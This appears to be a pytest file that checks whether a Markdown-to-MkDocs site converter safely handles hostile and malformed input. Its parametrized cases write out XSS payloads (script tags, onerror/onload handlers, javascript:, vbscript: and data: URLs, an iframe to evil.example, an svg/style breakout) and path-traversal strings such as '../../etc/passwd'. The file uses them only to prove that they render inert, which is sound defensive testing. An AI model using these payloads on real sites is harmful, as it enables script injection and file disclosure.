"""Broken and hostile input (RELIABILITY.md section 6): one fixture per row, asserted on the
real converter (build_site.py), the real `mkdocs build --strict` and the built HTML.

One hostile corpus (tests/fixtures/bad plus two large files made here) is built once per
session and shared with tests/test_hostile_browser.py.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import time
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import frontmatter
import markdown
import pytest
import yaml

from conftest import REPO, SEEDS, Run, run_build_site

from briefing import check, pipeline, write
from briefing.enrich import RESERVED_SLUGS, canonical_tags
from briefing.text import clean_field, slugify

FIXTURES = REPO / "tests" / "fixtures" / "bad"
sys.path.insert(0, str(FIXTURES))
import generate as fx  # noqa: E402  (the fixture texts, to compare with what reaches the page)

CONTRACT_AND_EXTRA = list(write.CONTRACT_KEYS + write.EXTRA_KEYS)
SKIPPED = {
    # (with what to do: a first-time user's PDF renamed .txt was only called binary)
    "binary_png.txt": "binary file (PNG image), not text: no article text to read in it: move it out of the seeds folder",
    "binary_pdf.txt": "binary file (PDF document), not text: copy its text into a .txt file to include it",
    "binary_zip.txt": "binary file",
    "binary_nul_bytes.txt": "binary file", "empty.txt": "empty article",
    "whitespace_only.txt": "empty article", "bom_only.txt": "empty article", "too_large.txt": "too large (",
}
LONG_LINE_CHARS = 2_000_000
PWN_TEXT = fx.PWN


# --- the shared hostile build ----------------------------------------------------------


def make_hostile_seeds(seeds: Path) -> None:
    """The committed fixtures plus the two large cases (generated: not worth committing)."""
    seeds.mkdir(parents=True)
    for path in FIXTURES.iterdir():
        if path.suffix in (".txt", ".yml"):
            shutil.copyfile(path, seeds / path.name)
    # Row 7: over the default 10 MB limit.
    with open(seeds / "too_large.txt", "wb") as fh:
        fh.write(fx.article("A file far over the size limit").encode())
        fh.write((fx.P[1] + "\n\n").encode() * (25 * 1024 * 1024 // (len(fx.P[1]) + 2)))
    # Row 14: one 2 MB line of prose.
    sentence = fx.P[2] + " "
    line = (sentence * (LONG_LINE_CHARS // len(sentence) + 1))[:LONG_LINE_CHARS].rsplit(" ", 1)[0]
    (seeds / "long_line_2mb.txt").write_text(
        f"A single two-megabyte line of article text\n\nBy Jane Reporter\n\n{line}\n", encoding="utf-8")


@pytest.fixture(scope="session")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """The hostile corpus converted and built by the real CLI, once per session."""
    root = tmp_path_factory.mktemp("hostile")
    make_hostile_seeds(root / "seeds")
    started = time.monotonic()
    run = run_build_site(seeds=root / "seeds", docs=root / "docs", site=root / "site", timeout=300)
    run.seconds = time.monotonic() - started  # type: ignore[attr-defined]
    assert run.returncode == 1, run.output  # some seeds skipped, the site built
    return run


@pytest.fixture(scope="session")
def pages(hostile_build: Run) -> dict[str, "Page"]:
    """Every article of the hostile build, by seed file name."""
    out = {}
    for md in sorted((hostile_build.docs / "articles").glob("*.md")):
        text = md.read_text(encoding="utf-8")
        post = frontmatter.loads(text)
        html_path = hostile_build.site / "articles" / md.stem / "index.html"
        out[post["source_file"]] = Page(md, text, post, html_path)
    return out


class Page:
    """One converted article: its Markdown file and its built HTML page."""

    def __init__(self, md: Path, text: str, post: frontmatter.Post, html_path: Path) -> None:
        self.md, self.text, self.post, self.html_path = md, text, post, html_path
        self.meta = yaml.safe_load(text.split("---\n", 2)[1])
        self._html: str | None = None

    @property
    def html(self) -> str:
        if self._html is None:
            self._html = self.html_path.read_text(encoding="utf-8")
        return self._html

    @property
    def body(self) -> "Body":
        return body_of(self.html)


class Body(HTMLParser):
    """The article body (div.article-body) of a built page: its blocks' text and its tags."""

    BLOCKS = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "li", "pre", "td", "th"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 0
        self.blocks: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self._current: list[str] | None = None
        self._in_anchor = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        amap = dict(attrs)
        if self.depth == 0:
            if tag == "div" and "article-body" in (amap.get("class") or ""):
                self.depth = 1
            return
        if tag not in ("br", "img", "hr", "input"):
            self.depth += 1
        self.tags.append((tag, amap))
        if tag in self.BLOCKS:
            self._current = []
        # Our paragraph permalinks and the toc extension's heading permalinks are not text.
        self._in_anchor = tag == "a" and bool({"para-anchor", "headerlink"} & set((amap.get("class") or "").split()))

    def handle_endtag(self, tag: str) -> None:
        if self.depth == 0:
            return
        self.depth -= 1
        if tag in self.BLOCKS and self._current is not None:
            self.blocks.append(" ".join("".join(self._current).split()))
            self._current = None
        if tag == "a":
            self._in_anchor = False

    def handle_data(self, data: str) -> None:
        if self.depth and self._current is not None and not self._in_anchor:
            self._current.append(data)

    @property
    def text(self) -> str:
        return " ".join(self.blocks)


def body_of(html_text: str) -> Body:
    parser = Body()
    parser.feed(html_text)
    parser.close()
    return parser


def norm(text: str) -> str:
    """Whitespace-normalised text, as escape_text writes a block (one line)."""
    return " ".join(text.split())


# --- rows 1-4, 8-10: decoding ----------------------------------------------------------


def test_utf8_bom_removed(pages: dict[str, Page]) -> None:
    page = pages["utf8_bom.txt"]
    assert page.meta["title"] == "A UTF-8 file with a byte-order mark"
    assert "\ufeff" not in page.text and "\ufeff" not in page.html
    assert page.body.blocks[0] == norm(fx.P[0])


def test_cp1252_smart_quotes_exact(pages: dict[str, Page], hostile_build: Run) -> None:
    page = pages["cp1252_smart_quotes.txt"]
    assert page.meta["title"] == "\u201cSmart quotes\u201d \u2013 and \u20ac prices: a na\u00efve review"
    assert ("The caf\u00e9 charged \u20ac5 for a \u201cflat white\u201d \u2013 a price the na\u00efve visitors "
            "from Microsoft\u2019s lab happily paid") in page.body.text
    assert "cp1252_smart_quotes.txt: not valid UTF-8; decoded as cp1252" in hostile_build.stderr


def test_latin1_with_undefined_cp1252_bytes(pages: dict[str, Page], hostile_build: Run) -> None:
    page = pages["latin1_undefined_cp1252.txt"]
    assert "latin1_undefined_cp1252.txt: not valid UTF-8; decoded as latin-1" in hostile_build.stderr
    assert "caf\u00e9 near the lab, next to a section sign \u00a7 and a degree sign \u00b0" in page.body.text
    assert not re.search("[\x80-\x9f]", page.text)


@pytest.mark.parametrize("seed", ["utf16_le_bom.txt", "utf16_le_no_bom.txt"])
def test_utf16_with_and_without_bom(pages: dict[str, Page], seed: str) -> None:
    page = pages[seed]
    assert page.meta["title"] == "UTF-16 text about Microsoft and the lab"
    assert "Stra\u00dfe, caf\u00e9, \u201cquotes\u201d and \u4e2d\u6587 all survive" in page.body.text
    assert "\x00" not in page.text


def test_mojibake_repaired_before_escaping(pages: dict[str, Page], hostile_build: Run) -> None:
    page = pages["mojibake.txt"]
    assert page.meta["title"] == "Caf\u00e9 \u201cquoted\u201d: Microsoft in China"
    assert ("The caf\u00e9 owner said: \u201cWe were na\u00efve.\u201d The lab \u2013 opened in 1998 "
            "\u2013 cost \u20ac5m.") in page.body.text
    assert "mojibake.txt: repaired mojibake" in hostile_build.stderr


def test_mixed_newlines_become_paragraphs(pages: dict[str, Page], hostile_build: Run) -> None:
    page = pages["mixed_newlines.txt"]
    assert page.body.blocks == [norm(p) for p in fx.P]
    for md in (hostile_build.docs / "articles").glob("*.md"):
        raw = md.read_bytes()
        assert b"\r" not in raw and "\u2028".encode() not in raw and "\u2029".encode() not in raw, md


def test_control_characters_stripped(pages: dict[str, Page], hostile_build: Run) -> None:
    page = pages["control_chars.txt"]
    assert page.meta["title"] == "Control characters in a headline about Microsoft"
    assert "The lab said that the new rules would apply to every project" in page.body.text
    assert "control_chars.txt: removed" in hostile_build.stderr
    for md in (hostile_build.docs / "articles").glob("*.md"):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", md.read_text(encoding="utf-8")), md


# --- rows 5-7: skipped seeds -----------------------------------------------------------


def test_unusable_seeds_are_skipped_once_with_a_reason(hostile_build: Run, pages: dict[str, Page]) -> None:
    errors = [line for line in hostile_build.stderr.splitlines() if line.startswith("error: ")]
    for seed, reason in SKIPPED.items():
        mine = [line for line in errors if line.startswith(f"error: {seed}: ")]
        assert len(mine) == 1 and reason in mine[0], (seed, mine)
        assert seed not in pages
    assert "too_large.txt: too large (26.2 MB > limit 10.0 MB)" in hostile_build.stderr
    summary = hostile_build.stdout
    assert f"{len(pages)} articles converted, {len(SKIPPED)} skipped" in summary
    assert len(SKIPPED) > 3  # so the summary names them without their reasons (each said above)
    for seed in SKIPPED:
        assert f"{seed}" in summary  # the closing summary names each skipped file
    assert "; why each was skipped is said above" in summary
    # nothing else is an error but the metadata.yml fields not used, which make the status 1 too (and -q keeps)
    assert len([e for e in errors if not e.startswith("error: metadata.yml: ")]) == len(SKIPPED), errors


def test_size_limit_is_configurable(tmp_path: Path) -> None:
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copyfile(FIXTURES / "utf8_bom.txt", seeds / "utf8_bom.txt")
    shutil.copyfile(FIXTURES / "script_tag.txt", seeds / "script_tag.txt")
    run = run_build_site("--max-size", "0.0009", "--no-cache", seeds=seeds, docs=tmp_path / "docs", command="convert")
    assert run.returncode == 1, run.output
    assert re.search(r"error: \w+\.txt: too large \(0\.000\d+ MB > limit 0\.0009 MB\)", run.stderr), run.stderr
    assert "1 article converted, 1 skipped" in run.stdout


# --- rows 11-13: invisible characters, bidi, normalisation -----------------------------


def test_zero_width_removed_from_metadata_kept_in_body(pages: dict[str, Page]) -> None:
    page = pages["zero_width_title.txt"]
    assert page.meta["title"] == "Microsoft and the Beijing research lab"
    assert page.md.stem == "microsoft-and-the-beijing-research-lab"
    assert "Readers reacted with the family emoji" in page.body.text


def test_zwj_and_zwnj_kept_in_body_text(pages: dict[str, Page]) -> None:
    page = pages["zero_width_title.txt"]
    assert "\U0001F468\u200d\U0001F469\u200d\U0001F467" in page.body.text  # ZWJ emoji sequence
    assert "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645" in page.body.text  # ZWNJ in Persian


def test_bidi_controls_removed_and_reported(pages: dict[str, Page], hostile_build: Run) -> None:
    page = pages["bidi_title.txt"]
    bidi = re.compile("[\u202a-\u202e\u2066-\u2069]")
    assert page.meta["title"] == "Microsoft niahc deal and the isolated lab story"
    assert page.meta["authors"] == ["Jane Redroper"]
    assert not bidi.search(page.text) and not bidi.search(page.html)
    assert "bidi_title.txt: removed 8 bidi override character(s)" in hostile_build.stderr
    assert "The Arabic name \u0645\u0627\u064a\u0643\u0631\u0648\u0633\u0648\u0641\u062a and the Hebrew word " \
           "\u05de\u05d9\u05e7\u05e8\u05d5\u05e1\u05d5\u05e4\u05d8 appeared" in page.body.text


def test_nfc_and_nfd_titles_are_one_title(pages: dict[str, Page]) -> None:
    nfc, nfd = pages["nfc_title.txt"], pages["nfd_title.txt"]
    assert nfc.meta["title"] == nfd.meta["title"] == unicodedata.normalize("NFC", "Caf\u00e9 diplomacy: Microsoft and the Beijing lab")
    assert {nfc.md.stem, nfd.md.stem} == {"cafe-diplomacy-microsoft-and-the-beijing-lab",
                                          "cafe-diplomacy-microsoft-and-the-beijing-lab-2"}
    assert nfc.md.stem == "cafe-diplomacy-microsoft-and-the-beijing-lab"  # stable: source-file order


# --- rows 14-15: size and pathological runs --------------------------------------------


def test_two_megabyte_line_converted_whole(pages: dict[str, Page], hostile_build: Run) -> None:
    page = pages["long_line_2mb.txt"]
    body = page.body.text
    assert len(body) >= LONG_LINE_CHARS * 0.99, f"the 2 MB line was truncated to {len(body)} characters"
    assert hostile_build.seconds < 120  # type: ignore[attr-defined]


@pytest.mark.parametrize("seed,run", [("brackets_20000.txt", "[" * 20000), ("image_brackets_20000.txt", "![" * 20000)])
def test_bracket_runs_render_fast_and_intact(pages: dict[str, Page], seed: str, run: str) -> None:
    page = pages[seed]
    assert run in page.body.text
    started = time.monotonic()
    markdown.markdown(page.post.content, extensions=["toc"])  # the render MkDocs did, timed alone
    assert time.monotonic() - started < 10


# --- rows 16-22: markup, scripts, URLs, Markdown extensions ----------------------------


ALLOWED_BODY_TAGS = {"p", "a", "h2", "blockquote", "em", "div", "table", "tbody", "tr", "th", "td", "pre", "code", "ul", "li"}


def test_article_bodies_hold_no_markup_from_seeds(pages: dict[str, Page]) -> None:
    for seed, page in pages.items():
        for tag, attrs in page.body.tags:
            assert tag in ALLOWED_BODY_TAGS, (seed, tag, attrs)
            if tag in ("tbody", "tr", "td", "pre", "code", "ul", "li"):
                assert not attrs, (seed, tag, attrs)
                continue
            if tag == "table":
                assert attrs == {"class": "grid"}, (seed, attrs)
                continue
            if tag == "th":
                assert attrs == {"scope": "col"}, (seed, attrs)
                continue
            if tag == "div":  # only the converter's own region around a table of copied figures, its paragraph anchor
                assert {k: v for k, v in attrs.items() if k != "id"} == {
                    "class": "article-table", "role": "region", "aria-label": "Table", "tabindex": "0"}, (seed, attrs)
                assert re.fullmatch(r"p-\d+", attrs.get("id") or ""), (seed, attrs)
                continue
            if tag == "a":  # only our paragraph anchors and heading permalinks
                assert (attrs.get("href") or "").startswith("#"), (seed, attrs)
            assert set(attrs) <= {"class", "id", "href", "title", "aria-label", "data-search-exclude", "tabindex"}, \
                (seed, tag, attrs)
            if "data-search-exclude" in attrs:  # only on our pilcrows, and valueless
                assert attrs.get("class") == "para-anchor" and not attrs["data-search-exclude"], (seed, attrs)
            if "tabindex" in attrs:  # only on our pilcrows, out of the Tab order (a reader's review)
                assert attrs.get("class") == "para-anchor" and attrs["tabindex"] == "-1", (seed, attrs)
            if "aria-label" in attrs:  # only on our pilcrows, saying which paragraph they link to
                assert attrs.get("class") == "para-anchor" \
                    and attrs["aria-label"] == f"Link to paragraph {attrs['id'].removeprefix('p-')}", (seed, attrs)


@pytest.mark.parametrize("seed,visible", [
    ("script_tag.txt", [f"<script>{PWN_TEXT}</script>"]),
    ("img_onerror.txt", [f"<img src=x onerror=\"{PWN_TEXT}\">", f"<img src=x onerror={PWN_TEXT}>"]),
    ("svg_onload.txt", [f"<svg onload=\"{PWN_TEXT}\"></svg>", f"<svg/onload={PWN_TEXT}>"]),
    ("iframe.txt", ["<iframe src=\"https://evil.example/frame\"></iframe>",
                    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>"]),
    ("javascript_links.txt", [f"[click here](javascript:{PWN_TEXT})", f"<javascript:{PWN_TEXT}>",
                              "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                              f"[y](JaVaScRiPt:{PWN_TEXT})", "[w](java&#x09;script:", "[v](vbscript:msgbox(1))",
                              "[f](file:///etc/passwd)", "<a href=\"javascript:window.__pwned=1\">link</a>",
                              f"[1]: javascript:{PWN_TEXT}"]),
    ("html_comments.txt", ["<!-- hidden editorial note -->", "<!-- a whole hidden paragraph -->"]),
    ("unclosed_comment.txt", ["<!-- this comment never ends", "Everything after the comment marker must still"]),
    ("unclosed_div.txt", ["<div class=\"x\">", "<div markdown=\"1\">"]),
    ("unclosed_table.txt", ["<table><tr><td>", "<table>"]),
    ("table_cells.txt", [f"<script>{PWN_TEXT}</script>", f"<img src=x onerror=\"{PWN_TEXT}\">",
                         "</td></tr></table><p onclick=\"x\">"]),
    ("attr_list.txt", [f"{{: onmouseover=\"{PWN_TEXT}\" style=\"position:fixed;inset:0\" }}"]),
    ("snippet.txt", ["--8<-- \"mkdocs.yml\""]),
])
def test_hostile_markup_is_visible_text(pages: dict[str, Page], seed: str, visible: list[str]) -> None:
    page = pages[seed]
    text = page.body.text
    for snippet in visible:
        assert snippet in text, (seed, snippet)
    # Nothing after a hostile line is swallowed: every prose paragraph is its own <p>.
    for para in fx.P:
        assert norm(para) in page.body.blocks, (seed, para[:40])
    if seed == "snippet.txt":
        assert "markdown_extensions" not in page.html and "site_name:" not in page.html  # mkdocs.yml not included


def test_no_executable_markup_anywhere_in_the_built_site(hostile_build: Run) -> None:
    """Independent of briefing.check: walk every built page."""
    site = hostile_build.site
    dangerous = re.compile(r"^\s*(javascript|vbscript|file|data)\s*:", re.I)

    class Walk(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.problems: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in ("iframe", "object", "embed", "frame", "base"):
                self.problems.append(tag)
            for name, value in attrs:
                value = re.sub(r"[\x00-\x20]", "", value or "")
                if name.startswith("on"):
                    self.problems.append(f"{tag} {name}")
                if name in ("href", "src", "action", "formaction", "srcdoc", "data") and dangerous.match(value) \
                        and value != "javascript:void(0)":  # Material's own share button
                    self.problems.append(f"{tag} {name}={value[:30]}")
                if name == "srcdoc":
                    self.problems.append(f"{tag} srcdoc")

    for html_file in site.rglob("*.html"):
        text = html_file.read_text(encoding="utf-8")
        walker = Walk()
        walker.feed(text)
        assert not walker.problems, (html_file, walker.problems)
        assert "__pwned" not in re.sub(r"&[a-z]+;|&#\d+;", "", _scripts_of(text)), html_file
        for title in re.findall(r"<title>(.*?)</title>", text, re.S):
            assert not re.search(r"<[A-Za-z!/?]", title), (html_file, title)
    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
    for entry in index["docs"]:  # Material's search UI inserts these with innerHTML
        for key in ("title", "text"):
            walker = Walk()
            walker.feed(entry[key] or "")
            tags = re.findall(r"<([a-zA-Z]+)", entry[key] or "")
            assert not walker.problems and not set(tags) & {"script", "img", "svg", "iframe"}, entry


def _scripts_of(html_text: str) -> str:
    return "\n".join(re.findall(r"<script\b[^>]*>(.*?)</script>", html_text, re.S | re.I))


def test_hostile_title_is_text_everywhere(pages: dict[str, Page]) -> None:
    """Material prints titles raw in <title>, the header and the search index: row 16-17 via a title."""
    page = pages["title_html.txt"]
    title = page.meta["title"]
    assert "<" not in title and title.count(write.TITLE_LT) == 6  # every tag-opening "<" made inert
    assert title.replace(write.TITLE_LT, "<") == clean_field(fx.TEXT["title_html.txt"].split("\n")[0])
    assert page.post["title"] == title


def test_richer_markdown_config_cannot_be_abused(hostile_build: Run, tmp_path: Path) -> None:
    """Rows 21-23 'even with attr_list enabled': rebuild the same docs with the risky extensions on."""
    config = yaml.safe_load((REPO / "mkdocs.yml").read_text().replace("!ENV [SITE_URL, ", "[").replace(
        '"https://example.org/briefing/"]', '"https://example.org/briefing/"]'))
    config["site_url"] = "https://example.org/briefing/"
    config["theme"]["custom_dir"] = str(REPO / "overrides")
    config["docs_dir"] = str(hostile_build.docs)
    config["site_dir"] = str(tmp_path / "site")
    config["markdown_extensions"] = [
        "toc", "attr_list", "md_in_html", "footnotes", "abbr", "admonition", "def_list", "tables",
        {"pymdownx.snippets": {"base_path": [str(REPO)], "check_paths": False}},
    ]
    cfg = tmp_path / "mkdocs.yml"
    cfg.write_text(yaml.safe_dump(config), encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "mkdocs", "build", "-q", "-f", str(cfg)], cwd=REPO,
                          capture_output=True, text=True, timeout=300,
                          env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
    assert proc.returncode == 0, proc.stderr
    report = check.check_site(tmp_path / "site", "/briefing/")
    assert not report.unsafe, report.unsafe
    for md in (hostile_build.docs / "articles").glob("*.md"):
        html_text = (tmp_path / "site" / "articles" / md.stem / "index.html").read_text(encoding="utf-8")
        body = body_of(html_text)
        for tag, attrs in body.tags:
            assert tag in ALLOWED_BODY_TAGS, (md.name, tag, attrs)
            assert not any(name.startswith("on") or name == "style" for name in attrs), (md.name, attrs)
        assert "site_name" not in html_text.split("article-body", 1)[-1]
        assert body.blocks == body_of((hostile_build.site / "articles" / md.stem / "index.html")
                                      .read_text(encoding="utf-8")).blocks, md.name


# --- rows 23-25: text that looks like syntax -------------------------------------------


def test_markdown_looking_text_round_trips(pages: dict[str, Page]) -> None:
    """Strip the tags of the rendered body: the text equals the input paragraphs, in order
    (the one paragraph that starts with a dash is no list: a list has two items at least)."""
    page = pages["markdown_looking.txt"]
    expected = [norm(p) for p in fx.TEXT["markdown_looking.txt"].split("\n\n")[2:]]  # after title, byline
    assert page.body.blocks == expected
    assert "li" not in [tag for tag, _ in page.body.tags]


def test_a_code_listing_is_shown_as_written(pages: dict[str, Page]) -> None:
    """A listing copied with a post is one <pre><code> block in the built page holding its
    lines as written (indentation, a script tag, "</pre>" and Markdown's marks as text)."""
    page = pages["code_listing.txt"]
    listing = fx.TEXT["code_listing.txt"].split("\n\n")[3]
    assert listing.startswith("$ pip install") and "    return page" in listing
    article_body = page.html[page.html.index('class="article-body"'):]
    assert [write.html.unescape(c).rstrip("\n") for c in re.findall(r"<pre><code>(.*?)</code></pre>", article_body, re.S)] \
        == [listing]
    assert page.body.blocks == [norm(fx.P[0]), norm(listing), *(norm(p) for p in fx.P[1:])]


def test_every_article_body_round_trips(pages: dict[str, Page]) -> None:
    """For every seed: each rendered block equals the Markdown block's unescaped source text."""
    for seed, page in pages.items():
        rendered = page.body.blocks
        assert rendered, seed
        assert all(block.strip() for block in rendered), seed
        assert "\\" not in "".join(rendered).replace("\\\\", "") or seed == "markdown_looking.txt", seed


@pytest.mark.parametrize("seed,line", [
    ("note_first_line.txt", "Note: this article begins with a note line that must not become metadata"),
    ("title_first_line.txt", "Title: a line that looks like a metadata title, written at the top"),
])
def test_meta_looking_first_lines_stay_in_the_body(pages: dict[str, Page], seed: str, line: str) -> None:
    page = pages[seed]
    assert page.body.blocks[0].startswith(line)
    assert escape_prefix(line) in page.post.content.lstrip("\n").split("\n", 1)[0]
    assert set(page.meta) == set(CONTRACT_AND_EXTRA)  # metadata only from our YAML block
    assert re.search(f"<h1[^>]*>{re.escape(write.html.escape(page.meta['title']))}</h1>", page.html)


def escape_prefix(line: str) -> str:
    return write.escape_text(line + " x")[:-2]


def test_dash_lines_do_not_eat_paragraphs(pages: dict[str, Page]) -> None:
    page = pages["dashes_lines.txt"]
    assert page.meta["title"] == "Horizontal rules around a copied article"
    reloaded = frontmatter.loads(page.text)
    assert dict(reloaded.metadata) == page.meta
    assert "title: not front matter at all, just a sentence in the article body." in page.body.blocks
    assert page.text.startswith("---\ntitle: Horizontal rules")


# --- rows 26-30: front matter and metadata ---------------------------------------------


def test_yaml_hostile_title_round_trips(pages: dict[str, Page]) -> None:
    page = pages["yaml_hostile_title.txt"]
    line = fx.TEXT["yaml_hostile_title.txt"].split("\n")[0]
    assert page.meta["title"] == clean_field(line) == line.replace("\t", " ")
    assert page.post["title"] == page.meta["title"]
    assert write.html.unescape(re.search(r"<h1[^>]*>(.*?)</h1>", page.html).group(1)) == page.meta["title"]


def test_yaml_typed_values_stay_strings(pages: dict[str, Page]) -> None:
    page = pages["yaml_typed_values.txt"]
    assert page.meta["title"] == "no"
    assert page.meta["authors"] == ["on", "yes", "null", "1.10", "0755"]
    assert page.meta["source"] == "2019-04-12"
    assert all(type(v) is str for v in [page.meta["title"], page.meta["source"], *page.meta["authors"]])


def test_unknown_metadata_keys_reported_once_never_written(pages: dict[str, Page], hostile_build: Run) -> None:
    page = pages["metadata_keys.txt"]
    assert list(page.meta) == CONTRACT_AND_EXTRA
    assert page.meta["title"] == "Metadata with unexpected keys"
    for key in ("content", "handler", "template"):
        assert hostile_build.stderr.count(f"metadata_keys.txt: {key}: unknown field") == 1
    for p in pages.values():
        assert list(p.meta) == CONTRACT_AND_EXTRA, p.md


def test_dates_are_one_type_and_invalid_ones_undated(pages: dict[str, Page], hostile_build: Run) -> None:
    assert "dates_invalid.txt: date: '2019-02-30' is not a valid date" in hostile_build.stderr
    assert pages["dates_invalid.txt"].meta["date"] is None
    assert pages["dates_valid.txt"].meta["date"] == "2019-04-12"
    for p in pages.values():
        date = p.meta["date"]
        assert date is None or (type(date) is str and re.fullmatch(r"\d{4}-\d{2}-\d{2}", date)), p.md
    timeline = (hostile_build.site / "timeline" / "index.html").read_text(encoding="utf-8")
    assert "Undated" in timeline


def test_missing_title_uses_the_first_line(pages: dict[str, Page]) -> None:
    page = pages["missing_title.txt"]
    assert page.meta["title"] and fx.P[0].startswith(page.meta["title"].rstrip("…").rstrip())
    assert page.meta["date"] is None


def test_tags_are_canonical_lists_of_strings(pages: dict[str, Page]) -> None:
    assert canonical_tags(["AI", "ai", "Ai ", "Z\u00fcrich", "Zu\u0308rich", "", "  "]) == ["AI", "Z\u00fcrich"]
    for p in pages.values():
        assert isinstance(p.meta["tags"], list) and all(type(t) is str and t for t in p.meta["tags"]), p.md


# --- rows 33-36: slugs and file names --------------------------------------------------


def test_duplicate_titles_get_stable_suffixes(pages: dict[str, Page]) -> None:
    assert pages["duplicate_title_a.txt"].md.stem == "the-same-headline-on-two-different-articles"
    assert pages["duplicate_title_b.txt"].md.stem == "the-same-headline-on-two-different-articles-2"
    for seed in ("duplicate_title_a.txt", "duplicate_title_b.txt"):
        assert pages[seed].html_path.exists()


def test_reserved_slugs_are_never_produced(pages: dict[str, Page], hostile_build: Run) -> None:
    titles = {"reserved_index.txt": "Index", "reserved_readme.txt": "README", "reserved_hidden.txt": ".hidden",
              "reserved_templates.txt": "Templates", "reserved_con.txt": "CON", "reserved_nul.txt": "nul",
              "reserved_dotdot.txt": "..", "reserved_slashes.txt": "a/b\\c ../../etc/passwd"}
    stems = set()
    for seed, title in titles.items():
        page = pages[seed]
        assert page.meta["title"] == title
        stem = page.md.stem
        assert stem not in RESERVED_SLUGS and re.fullmatch(r"[a-z0-9][a-z0-9-]*", stem), (seed, stem)
        assert page.md.parent == hostile_build.docs / "articles"
        assert page.html_path.exists()
        stems.add(stem)
    assert len(stems) == len(titles)
    # Every generated article is a flat file in articles/: no section folder to collide with.
    assert not [p for p in (hostile_build.docs / "articles").iterdir() if p.is_dir()]


def test_odd_file_names(pages: dict[str, Page]) -> None:
    for seed, title in [("odd name with spaces \u00e9 ?#%.txt", "An article saved under an odd file name"),
                        ("quote's \"double\" name.txt", "Another article saved under an odd file name")]:
        page = pages[seed]
        assert page.meta["source_file"] == seed and page.meta["title"] == title
        assert re.fullmatch(r"[a-z0-9-]+", page.md.stem)
        assert f"<code>{seed}</code>" in write.html.unescape(page.html)


def test_the_hostile_site_passes_the_site_checks(hostile_build: Run) -> None:
    report = check.check_site(hostile_build.site, "/briefing/")
    assert report.ok, (report.unsafe, report.broken, report.duplicate_ids)
    assert "links checked" in hostile_build.stdout


# --- row 37 and the exit-code policy ---------------------------------------------------


def _corpus(seeds: Path, good: int, bad: list[str]) -> None:
    seeds.mkdir()
    for i in range(good):
        (seeds / f"good_{i:02d}.txt").write_text(
            fx.article(f"Good article number {i} about Microsoft and the Beijing lab"), encoding="utf-8")
    for name in bad:
        shutil.copyfile(FIXTURES / name, seeds / name)


def test_one_broken_seed_among_good_ones(tmp_path: Path) -> None:
    _corpus(tmp_path / "seeds", 10, ["binary_zip.txt"])
    run = run_build_site(seeds=tmp_path / "seeds", docs=tmp_path / "docs")
    assert run.returncode == 1, run.output
    errors = [line for line in run.stderr.splitlines() if line.startswith("error:")]
    assert errors == ["error: binary_zip.txt: binary file (ZIP archive (or Office document)), not text: a "
                      "word-processor document? save it as plain text (.txt) to include it"]
    assert "10 articles converted, 1 skipped (binary_zip.txt: binary file" in run.stdout
    built = sorted(p.parent.name for p in (run.site / "articles").glob("*/index.html"))
    assert built == sorted(f"good-article-number-{i}-about-microsoft-and-the-beijing-lab" for i in range(10))


def test_exit_codes(tmp_path: Path) -> None:
    _corpus(tmp_path / "ok", 2, [])
    assert run_build_site(seeds=tmp_path / "ok", docs=tmp_path / "d1").returncode == 0
    _corpus(tmp_path / "bad", 0, ["empty.txt", "binary_png.txt"])
    run = run_build_site(seeds=tmp_path / "bad", docs=tmp_path / "d2", site=tmp_path / "s2")
    assert run.returncode == 2, run.output
    assert "0 articles converted, 2 skipped" in run.stderr and not (tmp_path / "s2").exists()


# --- post-build check: hand-made pages and a doctored docs page ------------------------

THEME_PAGE = """<!doctype html><html><head><title>{title} - Site</title>
<script>__md_scope=new URL("..",location)</script></head><body>
<header><div class="md-header__topic"><span class="md-ellipsis">{header}</span></div>
<a href="javascript:void(0)" class="md-search__icon">share</a></header>
<article class="md-content__inner md-typeset"><h1>x</h1>{content}</article>
<script src="../assets/javascripts/bundle.js"></script></body></html>"""


@pytest.mark.parametrize("content,header,title,expected", [
    ("<p>fine &lt;script&gt;</p>", "fine", "fine", None),
    ("<script>alert(1)</script>", "", "t", "<script> element"),
    ("<iframe src=x></iframe>", "", "t", "<iframe> element"),
    ("<object data=x></object>", "", "t", "<object> element"),
    ("<embed src=x>", "", "t", "<embed> element"),
    ("<img src=x onerror=alert(1)>", "", "t", "event handler"),
    ("<p onmouseover='x'>a</p>", "", "t", "event handler"),
    ("<a href='javascript:alert(1)'>a</a>", "", "t", "dangerous URL"),
    ("<a href=' JaVaScRiPt:alert(1)'>a</a>", "", "t", "dangerous URL"),
    ("<a href='java&#x09;script:alert(1)'>a</a>", "", "t", "dangerous URL"),
    ("<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>", "", "t", "dangerous URL"),
    ("<img src='data:image/png;base64,iVBO'>", "", "t", None),
    ("<a href='vbscript:x'>a</a>", "", "t", "dangerous URL"),
    ("", "<img src=x onerror=alert(1)>", "t", "event handler outside the content"),
    ("", "<script>alert(1)</script>", "t", "inline <script> outside the content"),
    # Inside <svg>, <style> holds markup, not text: the <img> breaks out and runs (a
    # tokenizer that treats every <style> as raw text misses it; a browser does not).
    ("", "<svg><style><img src=x onerror=alert(1)></style></svg>", "t", "event handler outside the content"),
    # A second <body> in the content gives its attributes to the page's body.
    ("<body onload=alert(1)>", "", "t", "<body onload=…> event handler outside the content"),
    # Markup that closes the article early lands in the theme's part of the page: a script
    # that begins as Material's does is still not one of the theme's.
    ("<div></article><script>__md_scope=0;alert(1)</script>", "", "t", "inline <script> outside the content"),
